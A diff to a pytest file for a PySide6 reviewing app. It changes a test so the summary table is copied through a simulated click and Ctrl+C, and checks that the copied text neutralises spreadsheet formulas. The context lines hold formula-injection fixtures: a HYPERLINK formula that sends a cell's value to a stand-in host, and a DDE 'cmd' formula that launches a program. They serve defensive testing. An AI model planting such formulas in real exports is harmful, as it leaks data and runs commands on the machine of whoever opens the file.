@@ -12,6 +12,7 @@ import openpyxl
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from PySide6.QtCore import Qt
 from PySide6.QtGui import QGuiApplication
 from pytestqt.qtbot import QtBot
 
@@ -27,6 +28,7 @@ from reviewer.templates import builtin_template
 from reviewer.ui.operations import ProjectOps
 from reviewer.ui.summary_pane import SummaryPane
 from tests.conftest import AUTHOR
+from tests.keys import bring_up, click, press
 
 LINK = '=HYPERLINK("http://example.invalid/?"&B2,"Klicka")'
 COMMAND = "=cmd|' /C calc'!A0"
@@ -111,7 +113,9 @@ def test_copied_summary_table_is_text_for_excel(qtbot: QtBot, hostile: Project) 
     qtbot.addWidget(pane)
     pane.set_unit(hostile.units()[0].id)
     pane.refresh()
-    pane.copy_table()
+    bring_up(qtbot, pane)
+    click(pane.table.viewport())  # the auditor clicks into the table, then copies it
+    press(Qt.Key.Key_C, Qt.KeyboardModifier.ControlModifier)
     mime = QGuiApplication.clipboard().mimeData()
     lines = mime.text().split("\n")
     assert lines[0] == "'" + LINK
